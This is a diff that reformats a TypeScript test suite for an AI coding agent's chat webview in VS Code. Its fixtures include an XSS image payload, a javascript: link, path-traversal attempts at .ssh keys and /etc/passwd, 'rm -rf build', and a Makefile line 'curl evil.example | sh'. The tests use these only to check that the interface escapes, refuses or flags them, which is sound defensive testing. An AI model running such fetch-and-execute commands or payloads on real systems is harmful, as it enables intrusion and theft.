@@ -84,13 +84,37 @@ class Node_ {
 
 /** Loads dist/chat.js in a vm with a fake DOM; returns the elements by id, what it posted, and how to send it messages. */
 function loadChat() {
-  const ids = new Map(['log', 'log-inner', 'task', 'run', 'stop', 'status', 'open-trajectory', 'new-chat', 'show-history', 'history', 'timeline', 'connection', 'context', 'activity', 'activity-text', 'counters', 'jump'].map((id) => [id, new Node_('div')]));
+  const ids = new Map(
+    [
+      'log',
+      'log-inner',
+      'task',
+      'run',
+      'stop',
+      'status',
+      'open-trajectory',
+      'new-chat',
+      'show-history',
+      'history',
+      'timeline',
+      'connection',
+      'context',
+      'activity',
+      'activity-text',
+      'counters',
+      'jump',
+    ].map((id) => [id, new Node_('div')]),
+  );
   ids.get('log')!.appendChild(ids.get('log-inner')!);
   ids.get('history')!.hidden = true; // as in the view's HTML
   const posted: unknown[] = [];
   const listeners = new Map<string, (e: unknown) => void>();
   const context = {
-    document: { createElement: (t: string) => new Node_(t), createTextNode: (s: string) => new Node_('#text', s), getElementById: (id: string) => ids.get(id) ?? null },
+    document: {
+      createElement: (t: string) => new Node_(t),
+      createTextNode: (s: string) => new Node_('#text', s),
+      getElementById: (id: string) => ids.get(id) ?? null,
+    },
     window: { addEventListener: (t: string, f: (e: unknown) => void) => listeners.set(t, f) },
     acquireVsCodeApi: () => ({ postMessage: (m: unknown) => posted.push(JSON.parse(JSON.stringify(m))) }),
     // Frames are drawn at once; timers are the host's (unref'd: a test never waits on the chat's clock).
@@ -111,21 +135,51 @@ test('the chat bundle renders messages as text and posts valid messages', () => 
   assert.deepEqual(posted, [{ type: 'ready' }]);
   const log = ids.get('log')!;
   const evil = '<img src=x onerror=alert(1)>';
-  onMessage({ data: { type: 'runStarted', task: evil, model: 'm', endpoint: 'http://e/v1', trajectory: '.lar/runs/r.lar.jsonl' } });
+  onMessage({
+    data: { type: 'runStarted', task: evil, model: 'm', endpoint: 'http://e/v1', trajectory: '.lar/runs/r.lar.jsonl' },
+  });
   onMessage({ data: { type: 'text', delta: evil } });
   onMessage({ data: { type: 'assistant', text: `${evil}\n\n\`code\`` } });
-  onMessage({ data: { type: 'step', card: { line: 3, step: 1, tool: 'write_file', args: 'a.js', status: 'blocked', toolReward: -1, failed: [{ check: 'tool.allowed_in_stage', reason: 'not in explore' }], blocked: true } } });
-  onMessage({ data: { type: 'approval', id: 'a1', tool: 'run_command', args: 'rm -rf build', reason: 'matches rm -rf *' } });
-  onMessage({ data: { type: 'step', card: { line: 4, tool: 'x', args: '', status: 'ok', toolReward: 7, failed: [] } } }); // malformed: ignored
-  onMessage({ data: { type: 'error', message: 'cannot reach the server', actions: ['openSettings', 'testConnection'] } });
+  onMessage({
+    data: {
+      type: 'step',
+      card: {
+        line: 3,
+        step: 1,
+        tool: 'write_file',
+        args: 'a.js',
+        status: 'blocked',
+        toolReward: -1,
+        failed: [{ check: 'tool.allowed_in_stage', reason: 'not in explore' }],
+        blocked: true,
+      },
+    },
+  });
+  onMessage({
+    data: { type: 'approval', id: 'a1', tool: 'run_command', args: 'rm -rf build', reason: 'matches rm -rf *' },
+  });
+  onMessage({
+    data: { type: 'step', card: { line: 4, tool: 'x', args: '', status: 'ok', toolReward: 7, failed: [] } },
+  }); // malformed: ignored
+  onMessage({
+    data: { type: 'error', message: 'cannot reach the server', actions: ['openSettings', 'testConnection'] },
+  });
   const nodes = log.all();
-  assert.ok(nodes.every((n) => ['div', 'p', 'code', 'pre', 'span', 'ul', 'li', 'button', '#text', 'main', 'details', 'summary'].includes(n.tag)), nodes.map((n) => n.tag).join());
+  assert.ok(
+    nodes.every((n) =>
+      ['div', 'p', 'code', 'pre', 'span', 'ul', 'li', 'button', '#text', 'main', 'details', 'summary'].includes(n.tag),
+    ),
+    nodes.map((n) => n.tag).join(),
+  );
   assert.ok(!nodes.some((n) => n.tag === 'img'));
   assert.match(log.textContent ?? '', /<img src=x onerror=alert\(1\)>/);
   assert.match(log.textContent ?? '', /not in explore/);
   assert.doesNotMatch(log.textContent ?? '', /\b7\b/);
   const buttons = nodes.filter((n) => n.tag === 'button');
-  assert.deepEqual(buttons.map((b) => b.textContent), ['Approve', 'Reject', 'Open Settings', 'Test Connection']);
+  assert.deepEqual(
+    buttons.map((b) => b.textContent),
+    ['Approve', 'Reject', 'Open Settings', 'Test Connection'],
+  );
   buttons[1]!.fire('click');
   buttons[3]!.fire('click');
   const task = ids.get('task')!;
@@ -144,19 +198,28 @@ test('the chat draws the stage timeline, Diff buttons and the run history, and E
   const timeline = ids.get('timeline')!;
   assert.equal(timeline.hidden, true, 'no timeline before any step');
   onMessage({ data: { type: 'state', running: true } });
-  const card = (line: number, tool: string, args: string, stage: string, extra: object = {}) => ({ type: 'step', card: { line, tool, args, status: 'ok', toolReward: 1, stage, failed: [], ...extra } });
+  const card = (line: number, tool: string, args: string, stage: string, extra: object = {}) => ({
+    type: 'step',
+    card: { line, tool, args, status: 'ok', toolReward: 1, stage, failed: [], ...extra },
+  });
   onMessage({ data: card(2, 'read_file', 'sum.js', 'explore') });
   onMessage({ data: card(3, 'enter_stage', 'edit', 'explore', { stageVisit: { stage: 'explore', reward: 1 } }) });
   onMessage({ data: card(4, 'edit_file', 'sum.js', 'edit', { change: { id: 'c1', path: 'sum.js', created: false } }) });
   assert.equal(timeline.hidden, false);
   const chips = timeline.children.filter((c) => c.className.startsWith('chip'));
-  assert.deepEqual(chips.map((c) => c.textContent), ['explore +1', 'edit']);
+  assert.deepEqual(
+    chips.map((c) => c.textContent),
+    ['explore +1', 'edit'],
+  );
   assert.match(chips[0]!.className, /pos/);
   assert.match(chips[1]!.className, /open/);
   assert.equal(chips[1]!.attrs.get('aria-current'), 'step', 'the stage in progress is marked for screen readers');
   assert.match(chips[1]!.attrs.get('aria-label') ?? '', /edit: in progress, 1 step/);
 
-  const diff = ids.get('log')!.all().find((n) => n.tag === 'button' && n.textContent === 'Diff');
+  const diff = ids
+    .get('log')!
+    .all()
+    .find((n) => n.tag === 'button' && n.textContent === 'Diff');
   assert.ok(diff, 'a file change has a Diff button');
   diff.fire('click');
   assert.deepEqual(posted.at(-1), { type: 'showChange', id: 'c1' });
@@ -172,20 +235,50 @@ test('the chat draws the stage timeline, Diff buttons and the run history, and E
     data: {
       type: 'history',
       runs: [
-        { file: 'run-2.lar.jsonl', task: 'fix the failing test', started: '2026-11-30T10:00:00.000Z', status: 'submitted', steps: 6, return: 1.75, outcome: 1 },
-        { file: 'run-1.lar.jsonl', task: 'crashed one', started: '2026-11-29T10:00:00.000Z', status: 'unfinished', steps: 2, return: -0.5, outcome: 0 },
+        {
+          file: 'run-2.lar.jsonl',
+          task: 'fix the failing test',
+          started: '2026-11-30T10:00:00.000Z',
+          status: 'submitted',
+          steps: 6,
+          return: 1.75,
+          outcome: 1,
+        },
+        {
+          file: 'run-1.lar.jsonl',
+          task: 'crashed one',
+          started: '2026-11-29T10:00:00.000Z',
+          status: 'unfinished',
+          steps: 2,
+          return: -0.5,
+          outcome: 0,
+        },
       ],
     },
   });
-  const rows = ids.get('history')!.all().filter((n) => n.tag === 'button');
+  const rows = ids
+    .get('history')!
+    .all()
+    .filter((n) => n.tag === 'button');
   assert.equal(rows.length, 2);
   assert.match(rows[0]!.textContent ?? '', /fix the failing test.*submitted · 6 steps · return 1\.750 · outcome 1/);
   assert.match(rows[1]!.textContent ?? '', /unfinished/);
   rows[1]!.fire('click');
   assert.deepEqual(posted.at(-1), { type: 'openRun', file: 'run-1.lar.jsonl' });
   // A listing naming a path outside the runs folder is refused by the schema, so nothing is drawn from it.
-  onMessage({ data: { type: 'history', runs: [{ file: '../../.ssh/id_rsa.lar.jsonl', task: 'x', started: '', status: 'submitted', steps: 0 }] } });
-  assert.equal(ids.get('history')!.all().filter((n) => n.tag === 'button').length, 2);
+  onMessage({
+    data: {
+      type: 'history',
+      runs: [{ file: '../../.ssh/id_rsa.lar.jsonl', task: 'x', started: '', status: 'submitted', steps: 0 }],
+    },
+  });
+  assert.equal(
+    ids
+      .get('history')!
+      .all()
+      .filter((n) => n.tag === 'button').length,
+    2,
+  );
   assert.ok(posted.every((m) => FromWebview.safeParse(m).success));
 
   onMessage({ data: { type: 'clear' } });
@@ -193,25 +286,67 @@ test('the chat draws the stage timeline, Diff buttons and the run history, and E
 });
 
 test('the chat protocol refuses paths and ids the extension did not hand out', () => {
-  for (const file of ['../x.lar.jsonl', '/etc/passwd', 'a/b.lar.jsonl', '.hidden.lar.jsonl', 'run.jsonl', 'run.lar.jsonl\n']) {
+  for (const file of [
+    '../x.lar.jsonl',
+    '/etc/passwd',
+    'a/b.lar.jsonl',
+    '.hidden.lar.jsonl',
+    'run.jsonl',
+    'run.lar.jsonl\n',
+  ]) {
     assert.equal(FromWebview.safeParse({ type: 'openRun', file }).success, false, file);
   }
-  assert.equal(FromWebview.safeParse({ type: 'openRun', file: 'run-2026-11-30T10-00-00-000Z.lar.jsonl' }).success, true);
-  for (const id of ['', 'c', 'x1', 'c1/../', 'c1234567890123']) assert.equal(FromWebview.safeParse({ type: 'showChange', id }).success, false, id);
+  assert.equal(
+    FromWebview.safeParse({ type: 'openRun', file: 'run-2026-11-30T10-00-00-000Z.lar.jsonl' }).success,
+    true,
+  );
+  for (const id of ['', 'c', 'x1', 'c1/../', 'c1234567890123'])
+    assert.equal(FromWebview.safeParse({ type: 'showChange', id }).success, false, id);
 });
 
 test('the chat shows whether the server answers, with a way to fix it when it does not', () => {
   const { ids, posted, onMessage } = loadChat();
   const conn = ids.get('connection')!;
-  onMessage({ data: { type: 'connection', state: 'connected', endpoint: 'http://127.0.0.1:30000/v1', model: 'LAR-9B', actions: [] } });
+  onMessage({
+    data: {
+      type: 'connection',
+      state: 'connected',
+      endpoint: 'http://127.0.0.1:30000/v1',
+      model: 'LAR-9B',
+      actions: [],
+    },
+  });
   assert.match(conn.textContent ?? '', /Connected: LAR-9B · http:\/\/127\.0\.0\.1:30000\/v1$/);
-  onMessage({ data: { type: 'connection', state: 'connected', endpoint: 'http://127.0.0.1:30000/v1', model: 'LAR-9B', window: { tokens: 32768, assumed: true }, actions: [] } });
-  assert.match(conn.textContent ?? '', /Connected: LAR-9B · http:\/\/127\.0\.0\.1:30000\/v1 · 32k context \(assumed\)$/);
+  onMessage({
+    data: {
+      type: 'connection',
+      state: 'connected',
+      endpoint: 'http://127.0.0.1:30000/v1',
+      model: 'LAR-9B',
+      window: { tokens: 32768, assumed: true },
+      actions: [],
+    },
+  });
+  assert.match(
+    conn.textContent ?? '',
+    /Connected: LAR-9B · http:\/\/127\.0\.0\.1:30000\/v1 · 32k context \(assumed\)$/,
+  );
   assert.equal(conn.all().filter((n) => n.tag === 'button').length, 0);
-  onMessage({ data: { type: 'connection', state: 'failed', endpoint: 'http://127.0.0.1:9/v1', message: 'cannot reach the inference server at http://127.0.0.1:9/v1', actions: ['openEndpointSetting', 'testConnection'] } });
+  onMessage({
+    data: {
+      type: 'connection',
+      state: 'failed',
+      endpoint: 'http://127.0.0.1:9/v1',
+      message: 'cannot reach the inference server at http://127.0.0.1:9/v1',
+      actions: ['openEndpointSetting', 'testConnection'],
+    },
+  });
   assert.match(conn.textContent ?? '', /Not connected to http:\/\/127\.0\.0\.1:9\/v1: cannot reach/);
   const buttons = conn.all().filter((n) => n.tag === 'button');
-  assert.deepEqual(buttons.map((b) => b.textContent), ['Open Endpoint Setting', 'Test Connection', 'Retry']);
+  assert.deepEqual(
+    buttons.map((b) => b.textContent),
+    ['Open Endpoint Setting', 'Test Connection', 'Retry'],
+  );
   buttons[0]!.fire('click');
   buttons[2]!.fire('click');
   assert.deepEqual(posted.slice(-2), [{ type: 'action', action: 'openEndpointSetting' }, { type: 'checkConnection' }]);
@@ -220,7 +355,16 @@ test('the chat shows whether the server answers, with a way to fix it when it do
 test('reasoning shows collapsed above the answer, a bare </think> moves the streamed text there, the context figure and compactions show', () => {
   const { ids, onMessage } = loadChat();
   const log = ids.get('log')!;
-  onMessage({ data: { type: 'runStarted', task: 't', model: 'm', endpoint: 'http://e/v1', trajectory: 'r', sandbox: { confined: true, text: 'sandboxed' } } });
+  onMessage({
+    data: {
+      type: 'runStarted',
+      task: 't',
+      model: 'm',
+      endpoint: 'http://e/v1',
+      trajectory: 'r',
+      sandbox: { confined: true, text: 'sandboxed' },
+    },
+  });
   onMessage({ data: { type: 'text', delta: 'The sum is wrong.' } });
   onMessage({ data: { type: 'retract', chars: 'The sum is wrong.'.length } });
   onMessage({ data: { type: 'reasoning', delta: ' Check sum.js.' } });
@@ -232,7 +376,10 @@ test('reasoning shows collapsed above the answer, a bare </think> moves the stre
   const streaming = log.all().find((n) => n.className === 'msg assistant streaming')!;
   assert.equal(streaming.textContent, 'Reading it.', 'the reasoning left the answer');
   onMessage({ data: { type: 'assistant', text: 'Reading it.', reasoning: 'The sum is wrong. Check sum.js.' } });
-  assert.match(log.all().find((n) => n.tag === 'details')!.textContent ?? '', /^Thinking \(31 characters\)The sum is wrong\. Check sum\.js\.$/);
+  assert.match(
+    log.all().find((n) => n.tag === 'details')!.textContent ?? '',
+    /^Thinking \(31 characters\)The sum is wrong\. Check sum\.js\.$/,
+  );
   onMessage({ data: { type: 'context', used: 18_234, window: 32_768, assumed: false } });
   assert.equal(ids.get('context')!.textContent, '18.2k / 32k');
   assert.equal(ids.get('context')!.hidden, false);
@@ -240,7 +387,9 @@ test('reasoning shows collapsed above the answer, a bare </think> moves the stre
   assert.equal(ids.get('context')!.className, 'context full');
   assert.match(ids.get('context')!.title, /assumed: the server does not report it/);
   onMessage({ data: { type: 'compaction', text: 'Context compacted to fit the window.' } });
-  assert.ok(log.all().some((n) => n.className === 'compaction' && n.textContent === 'Context compacted to fit the window.'));
+  assert.ok(
+    log.all().some((n) => n.className === 'compaction' && n.textContent === 'Context compacted to fit the window.'),
+  );
   onMessage({ data: { type: 'clear' } });
   assert.equal(ids.get('context')!.hidden, true);
 });
@@ -248,30 +397,57 @@ test('reasoning shows collapsed above the answer, a bare </think> moves the stre
 test('a streamed answer renders as markdown while it streams: settled blocks are drawn once, the tail again', () => {
   const { ids, onMessage } = loadChat();
   const log = ids.get('log')!;
-  onMessage({ data: { type: 'runStarted', task: 't', model: 'm', endpoint: 'http://e/v1', trajectory: 'r', sandbox: { confined: true, text: 'sandboxed' } } });
+  onMessage({
+    data: {
+      type: 'runStarted',
+      task: 't',
+      model: 'm',
+      endpoint: 'http://e/v1',
+      trajectory: 'r',
+      sandbox: { confined: true, text: 'sandboxed' },
+    },
+  });
   onMessage({ data: { type: 'text', delta: '# Plan\n\nFirst **read** the' } });
   const heading = log.all().find((n) => n.tag === 'h1');
   assert.equal(heading?.textContent, 'Plan', 'a heading shows as one while the answer streams');
   onMessage({ data: { type: 'text', delta: ' file.\n\n```js\nlet a' } });
-  assert.equal(log.all().find((n) => n.tag === 'h1'), heading, 'a settled block is not drawn again');
+  assert.equal(
+    log.all().find((n) => n.tag === 'h1'),
+    heading,
+    'a settled block is not drawn again',
+  );
   assert.ok(log.all().some((n) => n.tag === 'strong' && n.textContent === 'read'));
-  assert.ok(log.all().some((n) => n.tag === 'code' && n.textContent === 'let a'), 'an open code block shows as code');
+  assert.ok(
+    log.all().some((n) => n.tag === 'code' && n.textContent === 'let a'),
+    'an open code block shows as code',
+  );
   onMessage({ data: { type: 'assistant', text: '# Plan\n\nFirst **read** the file.\n\n```js\nlet a = 1;\n```' } });
   const answer = log.all().filter((n) => n.className === 'msg assistant');
   assert.equal(answer.length, 1, 'the final answer replaces the streamed one');
-  assert.ok(answer[0]!.all().some((n) => n.className === 'hljs'), 'the finished code block is highlighted');
+  assert.ok(
+    answer[0]!.all().some((n) => n.className === 'hljs'),
+    'the finished code block is highlighted',
+  );
 });
 
 test('code blocks have a Copy button that sends exactly the code; links go to the extension, never to the webview host', () => {
   const { ids, posted, onMessage } = loadChat();
   const log = ids.get('log')!;
-  onMessage({ data: { type: 'assistant', text: 'See [the docs](https://example.com/d) and [sum](src/sum.js#L2) but not [x](javascript:alert(1)).\n\n```bash\nnpm test -- --watch=false\n```' } });
+  onMessage({
+    data: {
+      type: 'assistant',
+      text: 'See [the docs](https://example.com/d) and [sum](src/sum.js#L2) but not [x](javascript:alert(1)).\n\n```bash\nnpm test -- --watch=false\n```',
+    },
+  });
   const copy = log.all().find((n) => n.tag === 'button' && n.textContent === 'Copy')!;
   copy.fire('click');
   assert.deepEqual(posted.at(-1), { type: 'copy', text: 'npm test -- --watch=false' });
   assert.equal(copy.textContent, 'Copied');
   const links = log.all().filter((n) => n.tag === 'a');
-  assert.deepEqual(links.map((a) => a.attrs.get('href')), ['https://example.com/d', 'src/sum.js#L2']);
+  assert.deepEqual(
+    links.map((a) => a.attrs.get('href')),
+    ['https://example.com/d', 'src/sum.js#L2'],
+  );
   let prevented = 0;
   let stopped = 0;
   links[1]!.fire('click', { preventDefault: () => prevented++, stopPropagation: () => stopped++ });
@@ -284,7 +460,16 @@ test('code blocks have a Copy button that sends exactly the code; links go to th
 test('a running command has a live card with its output tail and a clock, replaced by its step card when it ends', () => {
   const { ids, onMessage } = loadChat();
   const log = ids.get('log')!;
-  onMessage({ data: { type: 'runStarted', task: 't', model: 'm', endpoint: 'http://e/v1', trajectory: 'r', sandbox: { confined: true, text: 'sandboxed' } } });
+  onMessage({
+    data: {
+      type: 'runStarted',
+      task: 't',
+      model: 'm',
+      endpoint: 'http://e/v1',
+      trajectory: 'r',
+      sandbox: { confined: true, text: 'sandboxed' },
+    },
+  });
   onMessage({ data: { type: 'state', running: true } });
   onMessage({ data: { type: 'waiting' } });
   assert.equal(ids.get('activity')!.hidden, false);
@@ -299,9 +484,32 @@ test('a running command has a live card with its output tail and a clock, replac
   assert.equal(out.hidden, false);
   assert.equal(out.textContent, '> test\nok 1 - adds');
   assert.match(live.textContent ?? '', /2\.0 KB/);
-  onMessage({ data: { type: 'step', card: { line: 3, id: 'call_1', step: 1, tool: 'run_command', args: 'sleep 8 && npm test', status: 'ok', toolReward: 1, failed: [], durationMs: 8123, excerpt: 'ok 1 - adds' } } });
-  assert.equal(log.all().filter((n) => /^card( |$)/.test(n.className)).length, 1, 'the step card took the live card’s place');
-  assert.equal(log.all().some((n) => n.className === 'card live'), false);
+  onMessage({
+    data: {
+      type: 'step',
+      card: {
+        line: 3,
+        id: 'call_1',
+        step: 1,
+        tool: 'run_command',
+        args: 'sleep 8 && npm test',
+        status: 'ok',
+        toolReward: 1,
+        failed: [],
+        durationMs: 8123,
+        excerpt: 'ok 1 - adds',
+      },
+    },
+  });
+  assert.equal(
+    log.all().filter((n) => /^card( |$)/.test(n.className)).length,
+    1,
+    'the step card took the live card’s place',
+  );
+  assert.equal(
+    log.all().some((n) => n.className === 'card live'),
+    false,
+  );
   assert.match(log.textContent ?? '', /8\.1 s/);
   assert.equal(ids.get('activity-text')!.hidden, true, 'nothing runs now');
   onMessage({ data: { type: 'context', used: 1000, window: 32768, assumed: false, completionTokens: 1234 } });
@@ -345,7 +553,14 @@ test('a restored chat shows its messages, and an interrupted run offers Resume o
   const log = ids.get('log')!;
   onMessage({ data: { type: 'restored', text: 'Restored from its trajectory (run-1.lar.jsonl).' } });
   onMessage({ data: { type: 'userMessage', text: 'Fix **sum**' } });
-  onMessage({ data: { type: 'interrupted', file: 'run-1.lar.jsonl', text: 'This run was interrupted: the editor closed.', resumable: true } });
+  onMessage({
+    data: {
+      type: 'interrupted',
+      file: 'run-1.lar.jsonl',
+      text: 'This run was interrupted: the editor closed.',
+      resumable: true,
+    },
+  });
   assert.match(log.textContent ?? '', /Restored from its trajectory/);
   assert.ok(log.all().some((n) => n.className === 'msg user' && n.all().some((c) => c.tag === 'strong')));
   const resume = log.all().find((n) => n.tag === 'button' && n.textContent === 'Resume')!;
@@ -354,7 +569,16 @@ test('a restored chat shows its messages, and an interrupted run offers Resume o
   assert.equal(resume.disabled, true, 'pressed once');
   // Even if it were still enabled, a run that begins spends it.
   resume.disabled = false;
-  onMessage({ data: { type: 'runStarted', task: 'go on', model: 'm', endpoint: 'http://e/v1', trajectory: 'r', sandbox: { confined: true, text: 'sandboxed' } } });
+  onMessage({
+    data: {
+      type: 'runStarted',
+      task: 'go on',
+      model: 'm',
+      endpoint: 'http://e/v1',
+      trajectory: 'r',
+      sandbox: { confined: true, text: 'sandboxed' },
+    },
+  });
   assert.equal(resume.disabled, true);
   assert.equal(FromWebview.safeParse({ type: 'resume', file: '../x.lar.jsonl' }).success, false);
   // A run with no end (perhaps live in another window) is shown, not offered for Resume.
@@ -379,15 +603,39 @@ test('a step with a checkpoint offers Restore to here; a restore says what it di
   const { ids, posted, onMessage } = loadChat();
   const log = ids.get('log')!;
   const commit = 'e'.repeat(40);
-  onMessage({ data: { type: 'step', card: { line: 5, step: 3, tool: 'edit_file', args: 'src/sum.js', status: 'ok', toolReward: 1, failed: [], checkpoint: commit } } });
-  onMessage({ data: { type: 'step', card: { line: 6, step: 4, tool: 'read_file', args: 'src/sum.js', status: 'ok', toolReward: 1, failed: [] } } });
+  onMessage({
+    data: {
+      type: 'step',
+      card: {
+        line: 5,
+        step: 3,
+        tool: 'edit_file',
+        args: 'src/sum.js',
+        status: 'ok',
+        toolReward: 1,
+        failed: [],
+        checkpoint: commit,
+      },
+    },
+  });
+  onMessage({
+    data: {
+      type: 'step',
+      card: { line: 6, step: 4, tool: 'read_file', args: 'src/sum.js', status: 'ok', toolReward: 1, failed: [] },
+    },
+  });
   const buttons = log.all().filter((n) => n.tag === 'button' && n.textContent === 'Restore to here');
   assert.equal(buttons.length, 1, 'only the step that has a checkpoint');
   buttons[0]!.fire('click');
   assert.deepEqual(posted.at(-1), { type: 'restoreCheckpoint', commit, step: 3 });
-  log.all().find((n) => n.tag === 'button' && n.textContent === 'Branch from here')!.fire('click');
+  log
+    .all()
+    .find((n) => n.tag === 'button' && n.textContent === 'Branch from here')!
+    .fire('click');
   assert.deepEqual(posted.at(-1), { type: 'branchFrom', commit, step: 3 });
-  onMessage({ data: { type: 'checkpointRestored', text: 'Workspace restored to before step 3: 1 file.', undo: 'f'.repeat(40) } });
+  onMessage({
+    data: { type: 'checkpointRestored', text: 'Workspace restored to before step 3: 1 file.', undo: 'f'.repeat(40) },
+  });
   const undo = log.all().find((n) => n.tag === 'button' && n.textContent === 'Undo')!;
   undo.fire('click');
   assert.deepEqual(posted.at(-1), { type: 'restoreCheckpoint', commit: 'f'.repeat(40) });
@@ -398,9 +646,25 @@ test('a step with a checkpoint offers Restore to here; a restore says what it di
 test('changed files that run later are shown after the run with their diffs, and say why to read them', () => {
   const { ids, onMessage } = loadChat();
   const log = ids.get('log')!;
-  onMessage({ data: { type: 'laterChanges', files: [{ path: 'Makefile', change: 'changed', diff: '--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n test:\n+\tcurl evil.example | sh' }, { path: 'deploy.sh', change: 'added' }], more: 0 } });
+  onMessage({
+    data: {
+      type: 'laterChanges',
+      files: [
+        {
+          path: 'Makefile',
+          change: 'changed',
+          diff: '--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n test:\n+\tcurl evil.example | sh',
+        },
+        { path: 'deploy.sh', change: 'added' },
+      ],
+      more: 0,
+    },
+  });
   const card = log.all().find((n) => n.className === 'later-changes')!;
-  assert.match(card.textContent ?? '', /2 changed files that run later: .* outside the sandbox\. Read the diffs before you commit/);
+  assert.match(
+    card.textContent ?? '',
+    /2 changed files that run later: .* outside the sandbox\. Read the diffs before you commit/,
+  );
   const files = card.all().filter((n) => n.tag === 'details');
   assert.equal(files.length, 2);
   assert.match(files[0]!.textContent ?? '', /^changed Makefile/);
